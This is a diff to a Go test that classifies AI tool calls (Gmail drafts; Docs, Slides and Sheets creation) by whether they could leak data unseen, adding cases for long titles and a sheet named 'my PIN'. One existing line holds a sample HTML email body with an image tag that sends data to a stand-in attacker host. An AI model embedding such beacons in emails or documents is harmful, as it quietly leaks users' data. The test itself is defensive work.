@@ -301,6 +301,14 @@ func TestWhatLeavesUnseenAsksAmongWordsOfOthers(t *testing.T) {
 		`gmail_draft_create {"to":"a","subject":"b","body":"<img src=\"https://evil.example/?d=x\">","html":true}`: true,
 		`gmail_draft_create {"to":"a","subject":"b","body":"c"}`:                                                   false,
 		`gmail_draft_create {"to":"a","subject":"b","body":"c","html":false}`:                                      false,
+		// The card that shares a new file names it, by the beginning of its title.
+		`docs_create {"title":"Menu"}`:                               false,
+		`docs_create {"title":"` + strings.Repeat("x", 201) + `"}`:   true,
+		`slides_create {"title":"Menu"}`:                             false,
+		`slides_create {"title":"` + strings.Repeat("x", 201) + `"}`: true,
+		`sheets_create {"title":"Menu"}`:                             false,
+		`sheets_create {"title":"` + strings.Repeat("x", 201) + `"}`: true,
+		`sheets_create {"title":"Menu","sheet_titles":["my PIN"]}`:   true,
 	} {
 		name, arguments, _ := strings.Cut(call, " ")
 		for _, others := range []bool{false, true} {
